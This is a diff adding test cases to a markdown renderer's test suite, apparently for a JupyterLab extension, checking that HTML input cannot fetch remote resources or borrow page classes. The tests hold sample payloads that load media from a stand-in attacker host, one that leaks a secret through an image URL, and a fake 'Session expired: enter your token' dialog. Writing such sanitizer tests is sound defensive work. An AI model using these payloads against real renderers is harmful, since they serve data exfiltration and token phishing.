@@ -80,6 +80,39 @@ describe("markdown", () => {
     expect(blocked.getAttribute("onerror")).toBeNull();
   });
 
+  it.each([
+    {
+      name: "srcset beside a data image",
+      text: "<img src='data:image/png;base64,AA' srcset='https://evil.example/a.png 1x'>",
+    },
+    {
+      name: "picture source",
+      text: "<picture><source srcset='https://evil.example/b.png'><img src='data:,'></picture>",
+    },
+    {
+      name: "video",
+      text: "<video src='https://evil.example/c.mp4' poster='https://evil.example/d.png'></video>",
+    },
+    { name: "audio", text: "<audio autoplay><source src='https://evil.example/e.mp3'></audio>" },
+    {
+      name: "table background",
+      text: "<table background='https://evil.example/f.png'><tr><td>x</td></tr></table>",
+    },
+  ])("fetches nothing through other tags and attributes: $name", ({ text }) => {
+    const el = render(text);
+    expect(el.querySelectorAll("video, audio, source, picture, track")).toHaveLength(0);
+    expect(attributes(el).filter((line) => line.includes("evil.example"))).toEqual([]);
+  });
+
+  it("keeps the page's classes out, so text cannot dress up as JupyterLab", () => {
+    const el = render(
+      "<div class='jp-Dialog'>Session expired: enter your token</div>\n\n```py\nx = 1\n```",
+    );
+    expect(el.querySelectorAll("[class]")).toHaveLength(0);
+    expect(el.textContent).toContain("Session expired");
+    expect(el.querySelector("pre code")!.textContent).toBe("x = 1\n");
+  });
+
   it("does not load remote images, only inline data images", () => {
     const el = render(
       "![secret](https://evil.example/leak?q=SECRET) ![dot](data:image/png;base64,iVBORw0KGgo=)",
